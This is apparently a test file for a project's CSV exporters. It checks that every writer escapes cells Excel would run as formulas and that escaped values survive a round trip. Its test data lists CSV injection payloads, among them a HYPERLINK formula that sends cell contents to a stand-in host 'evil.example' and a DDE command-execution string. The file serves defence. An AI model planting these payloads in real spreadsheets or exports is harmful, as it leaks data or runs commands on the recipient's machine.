/** Every table that leaves this project as CSV is opened in Excel: none may hold what Excel runs. */
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { parse } from 'csv-parse/sync';
import { toCsv } from '../../cloudfunctions/shared/domain/csv';
import { readRows } from '../../config/content/rows';
import { readRecords, writeRecords } from '../../localcloud/console/transfer';

const root = resolve(__dirname, '../..');
const folder = mkdtempSync(join(tmpdir(), 'csv-'));
afterAll(() => rmSync(folder, { recursive: true }));

async function consoleExport(rows: string[][]): Promise<string> {
  const records = rows.map((cells, at) => ({
    _id: `n${at}`,
    ...Object.fromEntries(cells.map((cell, i) => [`c${i}`, cell])),
  }));
  let csv = '';
  for await (const part of writeRecords(() => records, 'csv')) csv += part;
  return csv;
}

/** By the file that writes the mark without which Excel reads no UTF-8. */
const WRITERS: Record<string, (rows: string[][]) => string | Promise<string>> = {
  'cloudfunctions/shared/domain/csv.ts': toCsv,
  'localcloud/console/transfer.ts': consoleExport,
};

const RUN = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  "=cmd|'/c calc'!A1",
  '+8613800000000',
  '-1+1',
  '-',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=1,=2',
  '="a"\r\n=1',
];

it('names every file that writes one', () => {
  const writers = ['client', 'cloudfunctions', 'localcloud', 'config', 'types'].flatMap((folder) =>
    readdirSync(join(root, folder), { recursive: true, encoding: 'utf8' })
      .filter((path) => /\.(?:tsx?|m?js)$/.test(path))
      .map((path) => join(folder, path))
      .filter((path) => /`\\ufeff\$|'\\ufeff'|csv-stringify/.test(readFileSync(join(root, path), 'utf8'))),
  );
  expect(writers.sort()).toEqual(Object.keys(WRITERS).sort());
});

describe.each(Object.entries(WRITERS))('what %s writes', (_file, write) => {
  it.each(RUN)('runs nothing: %j', async (text) => {
    const table: string[][] = parse(
      await write([
        ['甲', text],
        [text, '乙'],
      ]),
      { bom: true, skip_empty_lines: true },
    );
    expect(table.flat()).toContain(`'${text}`);
    for (const cell of table.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
  });
});

describe.each(RUN)('what the console exports is read as it was: %j', (text) => {
  // A cell that begins with an apostrophe by itself comes back too.
  const cells = [text, `'${text}`, `''${text}`];

  it('by the console', async () => {
    const [record] = readRecords(await consoleExport([cells]), 'csv');
    expect(record).toEqual({ _id: 'n0', c0: cells[0], c1: cells[1], c2: cells[2] });
  });

  it('by the import', async () => {
    const table = join(folder, 'contents.csv');
    writeFileSync(table, await consoleExport([cells]));
    const [{ fields } = {}] = readRows(table).contents;
    // As in every field that it reads, lines end as Unix ends them, and space around a text is no part of it.
    const [c0, c1, c2] = cells.map((cell) => cell.replace(/\r\n?/g, '\n').trim());
    expect(fields).toMatchObject({ c0, c1, c2 });
  });
});
